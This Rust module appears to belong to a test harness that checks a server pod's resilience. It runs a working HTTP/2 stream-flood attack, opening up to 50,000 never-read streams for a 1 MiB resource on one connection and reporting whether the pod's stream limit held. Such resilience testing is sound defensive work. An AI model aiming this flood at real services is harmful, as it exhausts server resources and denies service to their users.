//! `h2_stream_flood`: one HTTP/2 connection to the target domain opening streams for a
//! 1 MiB answer as fast as the pod allows, never reading one (its flow-control windows
//! fill, so every stream stays open); at most 50,000 streams.

use std::{future::poll_fn, time::Duration};

use super::{ATTACKER, Context};
use crate::abuse::{pod::TARGET, tls::Tls};

const MAX_STREAMS: usize = 50_000;
/// Once this many streams are open (or a second has passed), the attack holds.
const READY_AFTER: usize = 1_000;

pub(super) async fn run(context: Context) -> anyhow::Result<String> {
    let tls = Tls::new(&context.cert_pem, b"h2")?;
    let stream = tls.connect_from(ATTACKER, context.https, TARGET).await?;
    let (mut requests, connection) = h2_04::client::handshake(stream).await?;
    let driver = tokio::spawn(connection);
    let mut unread = Vec::new();
    let mut ready = Some(context.ready);
    let started = std::time::Instant::now();
    let mut blocked = false;
    while unread.len() < MAX_STREAMS && !context.stop.now() {
        if (unread.len() >= READY_AFTER || started.elapsed() > Duration::from_secs(1))
            && let Some(ready) = ready.take()
        {
            let _ = ready.send(());
        }
        // Wait for the pod to allow another stream, checking now and then whether to stop.
        match tokio::time::timeout(
            Duration::from_millis(100),
            poll_fn(|cx| requests.poll_ready(cx)),
        )
        .await
        {
            Err(_) => {
                blocked = true;
                continue;
            }
            Ok(Err(error)) => {
                return Ok(format!(
                    "{} streams, then the pod ended the connection: {error}",
                    unread.len()
                ));
            }
            Ok(Ok(())) => {}
        }
        let request = http::Request::get(format!("https://{TARGET}/big")).body(())?;
        match requests.send_request(request, true) {
            Ok((response, _)) => unread.push(response),
            Err(error) => return Ok(format!("{} streams, then: {error}", unread.len())),
        }
    }
    if let Some(ready) = ready.take() {
        let _ = ready.send(());
    }
    context.stop.wait().await;
    let opened = unread.len();
    drop(unread);
    drop(requests);
    driver.abort();
    Ok(format!(
        "{opened} streams opened on one connection{}",
        if blocked {
            " (the pod's stream limit was reached)"
        } else {
            ""
        }
    ))
}
